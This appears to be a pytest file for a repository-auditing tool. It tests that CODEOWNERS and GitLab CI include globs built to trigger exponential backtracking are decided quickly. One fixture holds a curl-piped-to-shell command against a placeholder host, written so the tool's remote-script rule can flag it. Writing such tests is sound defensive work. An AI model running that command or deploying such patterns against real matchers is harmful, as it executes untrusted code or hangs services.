"""Globs a pull request writes: CODEOWNERS lines and GitLab CI include wildcards.

With a backtracking regex, ``*a*a*a…`` against a long name, or a run of ``**/`` against a
deep path, took minutes (exponential in the number of wildcards). The glob engine
(gatekeeper/_glob.py) steps once per character of the path. Each check runs in a child
process with a timeout, so a regression fails here instead of hanging the suite; the time
bound is a hang guard, the figures are in bench/glob_bench.py.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import git

from tests.conftest import commit_files

HANG_GUARD_S = 20  # the old matcher had not finished either case after minutes


def _check(repo: Path, *args: str) -> tuple[int, dict[str, Any], float]:
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "gatekeeper", "check", str(repo), "--format", "json", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    elapsed = time.monotonic() - started
    assert result.stdout, result.stderr
    return result.returncode, json.loads(result.stdout), elapsed


def test_codeowners_patterns_that_backtrack_are_decided_quickly(git_repo: git.Repo) -> None:
    name = "a" * 60 + ".yml"
    codeowners = "\n".join(
        [
            "/.github/ @acme/ops",
            # Unanchored, so matched at every depth; 25 wildcards before a "b" that never comes.
            "*a" * 25 + "b @acme/nobody",
            "**/" * 40 + "x/*a*a*a*a*a*a*a*a*a*a*a*a*b @acme/nobody",
        ]
    )
    commit_files(
        git_repo,
        {
            ".github/CODEOWNERS": codeowners + "\n",
            f".github/workflows/{name}": "on: push\njobs: {}\n",
            "Jenkinsfile": "pipeline { agent any\n stages { } }\n",
        },
    )
    code, report, elapsed = _check(Path(git_repo.working_tree_dir or "."), "--only", "source")
    assert elapsed < HANG_GUARD_S
    gaps = {f["path"] for f in report["findings"] if f["rule"] == "source/codeowners-gap"}
    # The workflow is owned by /.github/; the Jenkinsfile by nobody: the answer is still right.
    assert gaps == {"Jenkinsfile"}
    assert code == 0


def test_a_gitlab_include_of_many_double_stars_is_decided_quickly(git_repo: git.Repo) -> None:
    deep = "/".join(["d"] * 40)
    commit_files(
        git_repo,
        {
            ".gitlab-ci.yml": "include:\n  - local: '"
            + "**/" * 40
            + "x/*.yml'\n  - local: 'ci/**/*.yml'\njob:\n  script: [make]\n",
            f"{deep}/x/sub/c.yml": "other:\n  script: [true]\n",
            "ci/jobs/build.yml": "build:\n  script: ['curl -sSL https://x.example/i.sh | sh']\n",
        },
    )
    code, report, elapsed = _check(Path(git_repo.working_tree_dir or "."), "--only", "pipeline")
    assert elapsed < HANG_GUARD_S
    by_rule = {(f["rule"], f["path"]) for f in report["findings"]}
    # The include that matches nothing is the including file's parse error; the other one is
    # followed and audited.
    assert ("pipeline/parse-error", ".gitlab-ci.yml") in by_rule
    assert ("pipeline/remote-script", "ci/jobs/build.yml") in by_rule
    assert code == 1
